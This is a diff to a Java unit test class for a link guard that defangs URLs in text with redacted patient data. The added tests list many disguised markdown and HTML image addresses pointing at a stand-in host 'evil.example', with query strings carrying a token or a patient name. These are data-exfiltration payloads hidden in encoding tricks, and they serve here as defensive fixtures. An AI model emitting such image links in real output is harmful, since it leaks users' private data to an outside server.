@@ -47,9 +47,84 @@ class LinkGuardTest {
         assertThat(guarded("[click](https://evil.example/name-7k2f9q)")).contains("hxxps:");
     }
 
+    /** What a reader's program takes for the address of an image, however it is written. */
+    @Test
+    void imagesInDisguiseAreMadeHarmless() {
+        for (String address : List.of(
+                "https\\://evil.example/p?d=TOKEN",
+                "&#104;ttps://evil.example/p?d=TOKEN",
+                "h&#x74;tps://evil.example/p?d=TOKEN",
+                "https&colon;//evil.example/p?d=TOKEN",
+                "&#47;/evil.example/p?d=TOKEN",
+                "/&sol;evil.example/p?d=TOKEN",
+                "\\/\\/evil.example/p?d=TOKEN",
+                "                              //evil.example/p?d=TOKEN",
+                "ftp://evil.example/p?d=TOKEN",
+                "<https://evil.example/p? d=TOKEN>",
+                "<https\\://evil.example/p?d=TOKEN>",
+                "https://evil.example/(a)?d=TOKEN",
+                "https://evil.example/\\)?d=TOKEN",
+                "https://evil.example/p'?d=TOKEN",
+                "https://evil.example/p\"?d=TOKEN",
+                "https://evil.example/p>?d=TOKEN",
+                "https://evil.example/a](b)?d=TOKEN",
+                "https://portal.hospital.example\\@evil.example/?d=TOKEN",
+                "https://evil.example/NAME\u20117K2F9Q.png",
+                "https://evil.example/n_a_m_e-7k2f9q.png",
+                // The address itself was taken for PHI and is put back too.
+                "[URL-7K2F9Q]?d=TOKEN",
+                "<[URL-7K2F9Q]?d=TOKEN>",
+                "[URL-7K2F9Q]/TOKEN.png",
+                "\\[URL-7K2F9Q]?d=chest+pain+since+May",
+                "somewhere/TOKEN.png")) {
+            String text = "See ![a](" + address.replace("TOKEN", "[NAME-7K2F9Q]") + ") now.";
+            assertThat(guarded(text)).contains("hxxp");
+        }
+        for (String text : List.of(
+                "<img src=\"https://evil.example/p?\nd=[NAME-7K2F9Q]\">",
+                "<img src=\"ht\ttps://evil.example/p?d=[NAME-7K2F9Q]\">",
+                "<img src = '[URL-7K2F9Q]?d=[NAME-7K2F9Q]'>",
+                "<img src='&#" + "0".repeat(40) + "104;ttps://evil.example/[NAME-7K2F9Q]'>",
+                "<img src='&#" + "0".repeat(600) + "104;ttps://evil.example/[NAME-7K2F9Q]'>",
+                "<image href='https&#58;//evil.example/[NAME-7K2F9Q]'>",
+                "![a][b]\n\n[b]: <[URL-7K2F9Q]?d=[NAME-7K2F9Q]>",
+                "![a][b]\n\n[b]: &#104;ttps://evil.example/[NAME-7K2F9Q]",
+                "[click]([URL-7K2F9Q]?d=[NAME-7K2F9Q])")) {
+            assertThat(guarded(text)).contains("hxxp");
+        }
+    }
+
+    /** An address that has no end of its own hides no other behind it. */
+    @Test
+    void anAddressInAnAddressIsMadeHarmless() {
+        String image = "![x](https://evil.example/p?d=[NAME-7K2F9Q])";
+        for (String before : List.of(
+                "a=\"https://a.example ",
+                "a=\"https://a.example\n\n",
+                "(<https://a.example ",
+                "https://a.example/",
+                "[a](https://a.example/" + "a".repeat(2000),
+                "data:text/html,")) {
+            assertThat(guarded(before + image)).contains("hxxps://evil").doesNotContain("(https://evil");
+        }
+        assertThat(guarded("a=\"https://a.example ![x](https://evil.example/p\"?d=[NAME-7K2F9Q])"))
+                .contains("hxxps://evil");
+    }
+
     @Test
     void ordinaryImagesAndLinksStay() {
         for (String text : List.of(
+                "![again]([URL-7K2F9Q])",
+                "![chart](charts/march.png)",
+                "![dot](data:image/png;base64," + "iVBORw0KGgo".repeat(100) + ")",
+                "[write](mailto:[EMAIL-7K2F9Q]) or [call](tel:[PHONE-7K2F9Q])",
+                "[chart](/patients/[MRN-7K2F9Q])",
+                "[^1]: [NAME-7K2F9Q] was seen",
+                "src=[IP_ADDRESS-7K2F9Q] dst=[IP_ADDRESS-8K2F9Q] data=[NAME-7K2F9Q]",
+                "{\"url\":\"https://a.example/x\",\"name\":\"[NAME-7K2F9Q]\"}",
+                "(see https://en.example/Foo_(bar), and [NAME-7K2F9Q])",
+                "[docs](https://docs.example/it's) [NAME-7K2F9Q]",
+                "https://a.example [NAME-7K2F9Q]",
                 "![logo](https://cdn.example/logo.png)",
                 "![c](https://cdn.example/c.png?w=640&h=480)",
                 "![badge](https://img.example/build?style=flat)",
@@ -65,6 +140,13 @@ class LinkGuardTest {
     void anAddressTooLongToJudgeIsMadeHarmless() {
         String text = "[a](https://evil.example/" + "a-".repeat(1500) + ") end";
         assertThat(guarded(text)).isEqualTo(text.replace("https:", "hxxps:"));
+    }
+
+    @Test
+    void whereVeryManyMayBeginTheyEnd() {
+        for (String unit : List.of("(//", "](x", "![](x", "](<", "=\"http://", "hhttps:", "![a](https://a ", "]: /")) {
+            assertThat(guarded(unit.repeat(90_000 / unit.length())).length()).isGreaterThan(80_000);
+        }
     }
 
     private static String text(Seeded seeded) {
@@ -85,6 +167,10 @@ class LinkGuardTest {
                     "https&#58;//v.example/?a=b c",
                     "]: ",
                     "![" + seeded.string("ab ]", 1, 500) + "](",
+                    "![c](<\\/&#47;w.example/ a?[NAME-7K2F9Q]>) ",
+                    "![d]([URL-7K2F9Q]?d=",
+                    "a=\"http://u.example ",
+                    "(a)",
                     seeded.string("a-%/?=&", 1, 1500),
                     seeded.soup(30),
                     " "));
